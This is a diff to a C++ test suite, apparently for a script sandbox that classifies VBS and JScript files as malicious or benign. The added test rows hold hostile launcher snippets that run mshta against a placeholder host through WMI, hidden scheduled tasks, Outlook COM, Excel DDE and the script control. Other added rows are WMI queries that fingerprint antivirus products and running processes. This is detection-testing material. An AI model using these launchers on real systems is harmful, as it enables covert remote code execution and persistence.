@@ -51,14 +51,6 @@ TEST(ScriptFile, OthersAreWhatTheirBytesSay) {
   for (const auto& row : rows) EXPECT_EQ(file_type(row.name, row.content), row.type) << row.test;
 }
 
-std::string specimen_program() {
-  std::string body(256, '\0');
-  body.replace(0, 2, "MZ");
-  body[60] = 64;
-  body.replace(64, 4, std::string("PE\0\0", 4));
-  return body;
-}
-
 intel::VisitRecord inspect(const Sites& sites, std::string_view file, const std::string& text,
                            BlobSink& blobs) {
   VisitOptions options = local_visit("http://file.invalid/" + std::string(file));
@@ -125,6 +117,18 @@ INSTANTIATE_TEST_SUITE_P(
             "a.js",
             "var t = new Date(); WScript.Sleep(90000); WScript.Echo(new Date() - t >= 90000);",
             {"Echo: true"}},
+        Row{"wmi_answers",
+            "a.vbs",
+            "Set w = GetObject(\"winmgmts:\\\\.\\root\\cimv2\")\nFor Each s In w.ExecQuery(\"SELECT * FROM "
+            "Win32_ComputerSystem WHERE 1=1\")\nWScript.Echo s.Manufacturer & s.Model\nNext\nWScript.Echo "
+            "w.ExecQuery(\"SELECT * FROM AntiVirusProduct\").Count & w.InstancesOf(\"Win32_Process\").Count",
+            {"Echo: Dell Inc.OptiPlex 7010", "Echo: 03"}},
+        Row{"enumerator",
+            "a.js",
+            "for (var e = new Enumerator(GetObject('winmgmts:').InstancesOf('Win32_Process')), n = []; "
+            "!e.atEnd(); "
+            "e.moveNext()) n.push(e.item().Name); WScript.Echo(n.join())",
+            {"Echo: explorer.exe,svchost.exe,OUTLOOK.EXE"}},
         Row{"no_arguments",
             "a.vbs",
             "WScript.Echo WScript.Arguments.Count & WScript.Arguments.Length",
@@ -196,6 +200,44 @@ TEST(ScriptFile, VerdictsOfFilesAndCommands) {
       {"wmi_process", "a.vbs",
        "GetObject(\"winmgmts:\\\\.\\root\\cimv2\").Get(\"Win32_Process\").Create \"mshta {a}/next\"",
        "malicious"},
+      {"wmi_with_a_startup", "a.vbs",
+       "Set w = GetObject(\"winmgmts:\\\\.\\root\\cimv2\")\nSet s = "
+       "w.Get(\"Win32_ProcessStartup\").SpawnInstance_\ns.ShowWindow = 0\n"
+       "w.Get(\"Win32_Process\").Create \"mshta {a}/next\", Null, s, p",
+       "malicious"},
+      {"wmi_by_parameters", "a.js",
+       "var w = GetObject('winmgmts:'), p = w.Get('Win32_Process'), i = "
+       "p.Methods_('Create').InParameters.SpawnInstance_(); i.CommandLine = 'mshta {a}/next'; "
+       "w.ExecMethod('Win32_Process', 'Create', i)",
+       "malicious"},
+      {"a_scheduled_task", "a.vbs",
+       "Set s = CreateObject(\"Schedule.Service\")\ns.Connect\nSet t = s.NewTask(0)\nSet a = "
+       "t.Actions.Create(0)\na.Path = \"mshta.exe\"\na.Arguments = \"{a}/next\"\n"
+       "s.GetFolder(\"\\\").RegisterTaskDefinition \"u\", t, 6, , , 3",
+       "malicious"},
+      {"a_scheduled_task_in_xml", "a.js",
+       "new ActiveXObject('Schedule.Service').GetFolder('\\\\').RegisterTask('u', '<Task><Exec><Command>mshta"
+       "</Command><Arguments>{a}/next</Arguments></Exec></Task>', 6)",
+       "malicious"},
+      {"a_task_by_outlook", "a.js",
+       "new ActiveXObject('Outlook.Application').CreateObject('WScript.Shell').Run('mshta {a}/next')",
+       "malicious"},
+      {"excel_by_dde", "a.js",
+       "new ActiveXObject('Excel.Application').DDEInitiate('cmd', '/c mshta {a}/next')", "malicious"},
+      {"by_class", "a.js", "GetObject('new:{72C24DD5-D70A-438B-8A42-98424B88AFB8}').Run('mshta {a}/next')",
+       "malicious"},
+      {"by_the_script_control", "a.js",
+       "var s = new ActiveXObject('MSScriptControl.ScriptControl'); s.Language = 'JScript'; s.AddCode('new "
+       "ActiveXObject(\"WScript.Shell\").Run(\"mshta {a}/next\")')",
+       "malicious"},
+      {"excel_in_an_office", "a.vbs",
+       "Set x = CreateObject(\"Excel.Application\")\nx.Visible = False\nSet b = x.Workbooks.Add\n"
+       "b.Worksheets(1).Cells(1, 1).Value = 3\nb.SaveAs \"C:\\sums.xls\"\nx.Quit",
+       "benign"},
+      {"an_inventory", "a.vbs",
+       "For Each d In GetObject(\"winmgmts:\").ExecQuery(\"Select * From Win32_LogicalDisk\")\nWScript.Echo "
+       "d.DeviceID\nNext",
+       "benign"},
       {"a_command", "a.js", "WScript.CreateObject('WScript.Shell').Run('notepad', 1);", "suspicious"},
       {"a_harmless_note", "a.vbs",
        "Set f = CreateObject(\"Scripting.FileSystemObject\").CreateTextFile(\"C:\\note.txt\")\nf.Write "
